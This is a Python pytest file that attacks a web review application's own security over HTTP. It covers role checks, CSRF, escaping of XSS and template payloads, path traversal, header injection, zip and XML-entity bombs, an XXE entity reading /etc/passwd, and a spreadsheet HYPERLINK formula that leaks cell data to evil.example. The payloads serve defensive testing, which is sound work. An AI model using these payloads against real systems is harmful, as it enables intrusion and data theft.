"""Attacks on the desk by people who are logged in, and by what they bring: over real HTTP."""

from __future__ import annotations

import io
import re
import time
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
from sqlalchemy import func, select, update

from pipeline.review.store.database import Database
from pipeline.review.store.tables import decisions, items, occurrences, saved_filters, users
from pipeline.review.web.app import create_app, open_desk
from pipeline.review.web.security import MAX_BODY
from tests.review.web.sound import Target, hidden, logged_in

EVERYBODY, READER, ADJUDICATOR, ADMIN = range(4)
WHO = {READER: "Anna", ADJUDICATOR: "Ben", ADMIN: "Dora"}
LEAST = {
    "/healthz": EVERYBODY,
    "/readyz": EVERYBODY,
    "/login": EVERYBODY,
    "/adjudicate": ADJUDICATOR,
    "/adjudicate/next": ADJUDICATOR,
    "/queue/assign": ADJUDICATOR,
    "/queue/assign/{person_id}/take-back": ADJUDICATOR,
    "/rounds/{number}": ADJUDICATOR,
    "/rounds/{number}/withdraw": ADJUDICATOR,
    "/rounds/{number}/bring-back": ADJUDICATOR,
    "/exchange": ADJUDICATOR,
    "/exchange/export": ADJUDICATOR,
    "/exchange/files": ADJUDICATOR,
    "/exchange/files/{token}": ADJUDICATOR,
    "/exchange/files/{token}/document": ADJUDICATOR,
    "/exchange/files/{token}/pages/{number}": ADJUDICATOR,
    "/exchange/files/{token}/pages/{number}/picture": ADJUDICATOR,
    "/exchange/files/{token}/take": ADJUDICATOR,
    "/exchange/files/{token}/forget": ADJUDICATOR,
    "/people": ADMIN,
    "/people/{person}/reset": ADMIN,
    "/people/{person}/role": ADMIN,
    "/people/{person}/enabled": ADMIN,
}
"""The least role of each address; the others are for readers."""
READERS = {
    "/",
    "/logout",
    "/review",
    "/review/ahead",
    "/items/{item_id}",
    "/items/{item_id}/history",
    "/keys",
    "/undo",
    "/queue",
    "/queue/filters",
    "/queue/filters/{filter_id}/forget",
    "/search",
    "/statistics",
    "/codebook",
    "/bulk",
    "/bulk/{preview_id}",
    "/bulk-undo",
    "/rounds",
    "/activity",
    "/mine",
    "/inbox",
    "/me",
    "/me/password",
    "/me/language",
}
MARK = "<img src=x onerror=alert(1)>\"'><script>alert(2)</script>{{7*7}}"


@pytest.fixture
def target(sqlite_database: Database, tmp_path: Path, home: Path) -> Iterator[Target]:
    made = Target.opened(sqlite_database, tmp_path, 40)
    with sqlite_database.write() as connection:
        connection.execute(update(users).where(users.c.name == "Ben").values(role="adjudicator"))
    yield made
    made.close()


def operations(database: Database) -> list[tuple[str, str]]:
    """Method and path of all that the desk serves."""
    paths = create_app(open_desk(database)).openapi()["paths"]
    return [(method.upper(), path) for path, methods in paths.items() for method in methods]


def send(target: Target, client: httpx.Client, method: str, path: str, **more: Any) -> httpx.Response:
    """A request with which nothing is wrong, but who sends it, or what is in `more`."""
    ids = target.ids(path, 3) if "{" in path else {}
    form = target.form(path, ids) | {"csrf": hidden(client.get("/keys").text, "csrf")}
    files = {"file": ("table.parquet", target.table)} if path == "/exchange/files" else None
    body = {"data": form, "files": files} if method == "POST" else {}
    query = {"name": "sheet.csv"} if path == "/exchange/export" else None
    return client.request(method, path.format(**ids), params=query, **(body | more))


def test_each_address_is_open_to_its_roles_and_closed_to_all_others(target: Target) -> None:
    served = operations(target.database)
    assert {path for _, path in served} == set(LEAST) | READERS  # a new page must be put into one of them
    clients = {role: logged_in(target.server.url, name) for role, name in WHO.items()}
    clients[EVERYBODY] = httpx.Client(base_url=target.server.url, timeout=60)
    wrong = []
    for method, path in served:
        if path in ("/logout", "/login", "/me/password"):
            continue  # test_web_guard.py; the one about a person's own session would end it here
        for role, client in clients.items():
            answer = send(target, client, method, path)
            shut = answer.status_code == 403 or "/login" in answer.headers.get("location", "")
            if shut != (role < LEAST.get(path, READER)) or answer.status_code >= 500:
                wrong.append((method, path, role, answer.status_code))
    assert wrong == []
    for client in clients.values():
        client.close()


def test_no_form_is_taken_without_its_token_or_from_another_site(target: Target) -> None:
    forms = [path for method, path in operations(target.database) if method == "POST" and path != "/login"]
    assert len(forms) > 20
    stolen = hidden(logged_in(target.server.url, "Anna").get("/keys").text, "csrf")
    wrong = []
    for path in forms:
        ids = target.ids(path, 3) if "{" in path else {}
        form = target.form(path, ids)
        files = {"file": ("t.parquet", target.table)} if path == "/exchange/files" else None
        for data, headers in (
            (form | {"csrf": ""}, {}),
            (form | {"csrf": stolen}, {}),
            (form, {"Origin": "https://evil.example"}),
            (form, {"Sec-Fetch-Site": "cross-site"}),
            (form, {"X-HTTP-Method-Override": "GET", "Origin": "null"}),
        ):
            answer = target.client.post(path.format(**ids), data=data, headers=headers, files=files)
            if answer.status_code != 403:
                wrong.append((path, data["csrf"][:5], headers, answer.status_code))
    assert wrong == []


def planted(target: Target) -> None:
    """The mark wherever somebody can write: texts, sources, notes, names of people, rounds, filters and
    files.
    """
    database = target.database
    with database.write() as connection:
        connection.execute(update(items).where(items.c.id == 1).values(text=MARK, second_due=False))
        marked = dict.fromkeys(("state_under_review", "recommending_state", "document", "symbol"), MARK)
        for row in connection.execute(select(occurrences).where(occurrences.c.item_id == 1)).all():
            change = update(occurrences).where(occurrences.c.row_id == row.row_id)
            place = {"document": MARK[:90], "paragraph": MARK[:40]}
            connection.execute(change.values(source=row.source | marked, **place))
    client, csrf = target.client, target.csrf
    forms: dict[str, dict[str, Any]] = {
        "/people": {"name": MARK[:60], "role": "reviewer"},
        "/rounds/1": {"name": MARK[:80], "audit": "2", "second": "10"},
        "/queue/filters": {"name": MARK[:80]},
    }
    for path, form in forms.items():
        assert client.post(path, data=form | {"csrf": csrf}).status_code in (200, 303), path
    form = target.form("/items/{item_id}", {"item_id": 1}) | {"note": MARK, "do": "escalate"}
    assert client.post("/items/1", data=form).status_code == 303
    target.bring(f"{MARK.replace('/', '')}.parquet", target.table)


def test_what_people_write_is_never_markup_or_a_template(target: Target) -> None:
    planted(target)
    pages = [path for method, path in operations(target.database) if method == "GET" and "{" not in path]
    more = [
        "/items/1",
        "/items/1?suggestion=1",
        "/items/1/history",
        f"/search?q={MARK}",
        f"/queue?state={MARK}",
    ]
    more += [f"/activity?person={MARK}", f"/exchange/files/{target.document}", "/nowhere/" + MARK]
    shown = 0
    for path in [*pages, *more]:
        for headers in ({}, {"X-Desk": "1"}, {"HX-Request": "true"}):
            answer = target.client.get(path, headers=headers)
            assert answer.status_code < 500, (path, headers)
            assert "<img src=x" not in answer.text, (path, headers)
            assert "<script>alert" not in answer.text, (path, headers)
            assert "49" not in re.findall(r"&gt;(\d+)", answer.text), (path, headers)
            shown += "&lt;img src=x" in answer.text
    form = target.form("/items/{item_id}", {"item_id": 2}) | {"add": MARK, "do": "add"}
    refused = target.client.post("/items/2", data=form, headers={"X-Desk": "1"})
    assert refused.status_code == 422
    assert "&lt;img src=x" in refused.text
    assert "<img" not in refused.text
    assert shown >= 10  # or the mark was nowhere, and nothing was tried


NAMES = (
    "../../../escaped.parquet",
    "..\\..\\escaped.parquet",
    "/etc/escaped.parquet",
    "a\r\nSet-Cookie: upr_review=x.parquet",
    'a"; filename="b.html',
    "x" * 5_000 + ".parquet",
    "nul\0.parquet",
    ".",
    "..",
    "a.parquet/",
    "é\u202egnp.parquet",
    "-rf.parquet",
)


@pytest.mark.parametrize("name", NAMES)
def test_no_name_of_a_file_leads_out_of_the_folder_or_into_a_header(
    target: Target, home: Path, name: str
) -> None:
    before = {path for path in home.rglob("*") if path.is_file()}
    quoted = name.replace("\r", "%0D").replace("\n", "%0A").replace('"', "%22").encode()
    body = (
        b'--b\r\nContent-Disposition: form-data; name="csrf"\r\n\r\n' + target.csrf.encode() + b"\r\n"
        b'--b\r\nContent-Disposition: form-data; name="file"; filename="' + quoted + b'"\r\n'
        b"Content-Type: application/octet-stream\r\n\r\n" + target.table + b"\r\n--b--\r\n"
    )
    headers = {"Content-Type": "multipart/form-data; boundary=b"}
    answer = target.client.post("/exchange/files", content=body, headers=headers)
    assert answer.status_code in (303, 400, 404, 422), answer.text
    new = {path for path in home.rglob("*") if path.is_file()} - before
    assert {path.parent for path in new} <= {home / "data" / "reviewed" / "received"}
    if answer.status_code == 303:
        saved = target.client.get(answer.headers["location"] + "/document")
        assert saved.headers["content-disposition"].startswith("attachment")
        assert saved.headers["content-type"] == "application/octet-stream"
        assert "set-cookie" not in saved.headers
        assert "\n" not in saved.headers["content-disposition"]
        target.client.post(answer.headers["location"] + "/forget", data={"csrf": target.csrf})
        assert {path for path in home.rglob("*") if path.is_file()} <= before


@pytest.mark.parametrize(
    "path",
    [
        "/exchange/files/..%2f..%2fdesk.db",
        "/exchange/files/%2e%2e/document",
        "/exchange/files/..%5c..%5cdesk.db/document",
        "/exchange/export?name=../desk.db",
        "/exchange/export?name=/etc/passwd",
        "/exchange/export?name=sheet.csv%00.html",
        "/static/..%2f..%2fweb/app.py",
        "/static/%2e%2e/templates/base.html",
    ],
)
def test_no_address_leads_to_another_file(target: Target, path: str) -> None:
    answer = target.client.get(path)
    assert answer.status_code in (404, 422)
    assert "import " not in answer.text


def packed(name: str, content: bytes) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr(name, content)
    return made.getvalue()


ENTITIES = (
    '<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a "aaaaaaaaaa">'
    + "".join(f'<!ENTITY {n} "{f"&{p};" * 10}">' for p, n in zip("abcdefgh", "bcdefghi", strict=True))
    + '<!ENTITY file SYSTEM "file:///etc/passwd">]><w>&i;&file;</w>'
).encode()
HARMFUL = {
    "bomb.xlsx": lambda: packed("xl/workbook.xml", b"\0" * 400_000_000),
    "bomb.docx": lambda: packed("word/document.xml", b" " * 400_000_000),
    "entities.docx": lambda: packed("word/document.xml", ENTITIES),
    "empty.pdf": lambda: b"%PDF-1.7\n" + b"\xff" * 1000,
    "page.html": f"<html><script>fetch('http://evil.example')</script>{MARK}</html>".encode,
}


@pytest.mark.long
@pytest.mark.parametrize("name", HARMFUL)
def test_a_harmful_file_is_told_and_the_desk_goes_on(target: Target, name: str) -> None:
    began = time.monotonic()
    token = target.bring(name, HARMFUL[name]())
    address = f"/exchange/files/{token}"
    answer = target.client.get(address)
    while 'hx-trigger="' in answer.text and time.monotonic() - began < 120:
        time.sleep(0.5)
        assert target.client.get("/review").status_code == 200
        answer = target.client.get(address)
    assert answer.status_code == 200
    assert "root:" not in answer.text
    assert "<script>fetch" not in answer.text
    assert f"{address}/take" not in answer.text  # nothing can be taken in
    assert target.client.get("/healthz").status_code == 200


@pytest.mark.parametrize("name", ["nobody", "Anna"])
def test_who_may_bring_no_files_sends_no_large_ones(target: Target, name: str) -> None:
    client = (
        httpx.Client(base_url=target.server.url) if name == "nobody" else logged_in(target.server.url, name)
    )
    client.cookies.set("other", "x")
    read = 0

    def endless() -> Iterator[bytes]:
        nonlocal read
        yield b'--b\r\nContent-Disposition: form-data; name="file"; filename="a.pdf"\r\n\r\n'
        while read < 20 * MAX_BODY:
            read += 65_536
            yield b"x" * 65_536

    headers = {"Content-Type": "multipart/form-data; boundary=b"}
    answer = client.post("/exchange/files", content=endless(), headers=headers)
    assert answer.status_code == 413
    assert client.post("/exchange/files", files={"file": b"x" * 2 * MAX_BODY}).status_code == 413


def test_what_belongs_to_another_person_is_out_of_reach(target: Target) -> None:
    ben = logged_in(target.server.url, "Ben")
    csrf = hidden(ben.get("/keys").text, "csrf")
    token = target.bring("mine.parquet", target.table)
    kept = target.ids("/queue/filters/{filter_id}/forget", 0)["filter_id"]
    preview = target.ids("/bulk/{preview_id}", 0)["preview_id"]
    assert (
        target.client.post("/items/5", data=target.form("/items/{item_id}", {"item_id": 5})).status_code
        == 303
    )
    with target.database.read() as connection:
        latest = connection.scalar(select(func.max(decisions.c.id))) or 0
        before = connection.scalar(select(func.count()).select_from(decisions))
    for path in ("", "/document", "/pages/1"):
        assert ben.get(f"/exchange/files/{token}{path}").status_code == 404
    for path, form in {
        f"/exchange/files/{token}/take": {},
        f"/exchange/files/{token}/forget": {},
        f"/bulk/{preview}": {},
        "/undo": {"before": str(latest + 1)},
        "/bulk-undo": {},
        "/items/6": target.form("/items/{item_id}", {"item_id": 6}) | {"person": str(target.person("Dora"))},
    }.items():
        assert ben.post(path, data=form | {"csrf": csrf}).status_code in (404, 409), path
    ben.post(f"/queue/filters/{kept}/forget", data={"csrf": csrf})
    with target.database.read() as connection:
        assert connection.scalar(select(func.count()).select_from(decisions)) == before
        assert connection.scalar(select(saved_filters.c.id).where(saved_filters.c.id == kept)) == kept
    assert target.client.get(f"/exchange/files/{token}").status_code == 200
    ben.close()


def test_no_header_makes_the_desk_another_place_or_method(target: Target) -> None:
    for headers in (
        {"X-Forwarded-Host": "evil.example"},
        {"X-Original-URL": "/people"},
        {"X-Rewrite-URL": "/people"},
        {"Forwarded": "for=127.0.0.1;host=evil.example;proto=https"},
        {"X-HTTP-Method-Override": "POST"},
    ):
        answer = httpx.get(f"{target.server.url}/review", headers=headers)
        assert answer.headers["location"] == "/login?next=%2Freview"
        assert "evil" not in target.client.get("/review", headers=headers).text
    for method in ("PUT", "DELETE", "PATCH", "TRACE"):
        assert target.client.request(method, "/items/1").status_code == 405


@pytest.mark.parametrize("name", ["sheet.csv", "sheet.xlsx"])
def test_no_exported_note_is_a_formula_and_none_changes_on_its_way_back(target: Target, name: str) -> None:
    formula = '=HYPERLINK("http://evil.example?"&A1,"x")'
    form = target.form("/items/{item_id}", {"item_id": 3}) | {"note": formula}
    assert target.client.post("/items/3", data=form).status_code == 303
    sheet = target.client.get("/exchange/export", params={"name": name}).content
    written = sheet
    if name.endswith(".xlsx"):
        with zipfile.ZipFile(io.BytesIO(sheet)) as archive:
            written = b"".join(archive.read(part) for part in archive.namelist())
        assert b"<f>" not in written
    assert b"HYPERLINK" in written
    assert not re.search(rb'(^|,|>)"?[=+@-]HYPERLINK', written, re.MULTILINE)
    page = target.client.get(f"/exchange/files/{target.bring(name, sheet)}").text
    assert 'name="csrf"' in page
    assert "HYPERLINK" not in page  # the sheet says what the desk has: nothing would change
